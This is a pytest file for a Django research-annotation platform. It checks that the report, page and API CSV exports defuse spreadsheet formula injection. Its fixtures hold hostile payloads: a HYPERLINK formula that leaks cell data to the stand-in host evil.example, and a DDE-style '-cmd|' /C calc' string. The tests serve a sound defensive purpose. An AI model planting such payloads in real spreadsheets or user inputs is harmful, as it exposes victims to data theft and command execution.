"""Spreadsheet formula injection (issue 10, item 6): every CSV the platform writes.

Text starting with =, +, -, @, tab or CR gets a leading single quote; numbers stay numbers
(cobbler_site.foundation.csv_safety). The writers: the report's CSV zip, the submissions export of the
researcher page and of the API.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from analysis.exporters.csv_export import to_csv_zip
from annotations import services
from annotations.models import (
    Assignment,
    Batch,
    Candidate,
    Instruction,
    Pair,
    Participant,
    Response,
    Study,
    Submission,
    Task,
)
from cobbler_site.foundation.csv_safety import safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    "raw, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("+1 (555) 0100", "'+1 (555) 0100"),
        ("-inf", "'-inf"),  # text, not a float: a float -inf is written as the number
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        ("-3", "-3"),  # a string that is only a number is a number to a spreadsheet, and harmless
        ("-1.5e-3", "-1.5e-3"),
        ("+0.25", "+0.25"),
        (-3, -3),
        (-0.25, -0.25),
        (True, True),
        (None, None),
    ],
)
def test_safe_cell(raw, written):
    assert safe_cell(raw) == written


def _zip_tables(data: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: list(csv.reader(io.StringIO(archive.read(name).decode()))) for name in archive.namelist()}


def test_the_report_csv_zip_neutralises_text_and_keeps_negative_numbers():
    report = {
        "bias": [
            {
                "subject": HYPERLINK,
                "bias": "@order",
                "value": -0.25,
                "n": -3,
                "valid_rate": 1.0,
                "random": None,
                "ci95": [-0.5, 0.125],
                "p_value": 0.04,
            }
        ],
        "manifest": {"study": "-cmd|' /C calc'!A0", "seed": -7},
    }
    tables = _zip_tables(to_csv_zip(report))
    header, row = tables["bias.csv"]
    cells = dict(zip(header, row, strict=True))
    assert cells["subject"] == "'" + HYPERLINK and cells["bias"] == "'@order"
    assert (cells["value"], cells["n"], cells["ci95_low"], cells["ci95_high"]) == ("-0.25", "-3", "-0.5", "0.125")
    assert float(cells["value"]) == -0.25
    manifest = dict(tables["manifest.csv"][1:])
    assert manifest == {"study": "'-cmd|' /C calc'!A0", "seed": "-7"}


@pytest.fixture
def study_with_a_hostile_label(researcher) -> Study:
    study = Study.objects.create(slug="csvi", name="CSV injection", created_by=researcher)
    instruction = Instruction.objects.create(study=study, index=0, text="Q?")
    a, b = (
        Response.objects.create(
            instruction=instruction,
            text=f"answer {key}",
            candidate=Candidate.objects.create(study=study, key=key, position=n),
        )
        for n, key in enumerate(("m1", "m2"))
    )
    pair = Pair.objects.create(instruction=instruction, response_a=a, response_b=b)
    batch = Batch.objects.create(study=study, condition="plain", index=0)
    task = Task.objects.create(
        batch=batch,
        position=0,
        kind="pairwise",
        condition="plain",
        instruction=instruction,
        pair=pair,
        arrangement="ab",
    )
    participant = Participant.objects.create(study=study, platform="code", external_hash="h" * 64, label=HYPERLINK)
    assignment = Assignment.objects.create(batch=batch, participant=participant, status="submitted")
    Submission.objects.create(
        assignment=assignment,
        task=task,
        choice="A",
        chosen_response=a,
        idempotency_key="k1",
        source="import",
        time_on_task_ms=1500,
    )
    return study


def _only_row(text: str) -> dict[str, str]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    return rows[0]


def test_the_submissions_csv_neutralises_text_and_keeps_numbers(study_with_a_hostile_label):
    raw = services.submissions_csv(study=study_with_a_hostile_label)
    row = _only_row(raw)
    assert row["participant"] == "'" + HYPERLINK
    assert row["batch"] == "0" and row["time_on_task_ms"] == "1500" and row["choice"] == "A"
    assert "\n=HYPERLINK" not in raw and ",=HYPERLINK" not in raw and ',"=HYPERLINK' not in raw


def test_the_page_and_api_exports_are_neutralised(researcher, researcher_client, study_with_a_hostile_label):
    page = researcher_client.get(reverse("annotations:export", args=["csvi", "csv"]))
    assert page.status_code == 200 and _only_row(page.content.decode())["participant"] == "'" + HYPERLINK
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=researcher).key}")
    response = api.get("/api/studies/csvi/submissions?export=csv")
    assert response.status_code == 200 and _only_row(response.content.decode())["participant"] == "'" + HYPERLINK
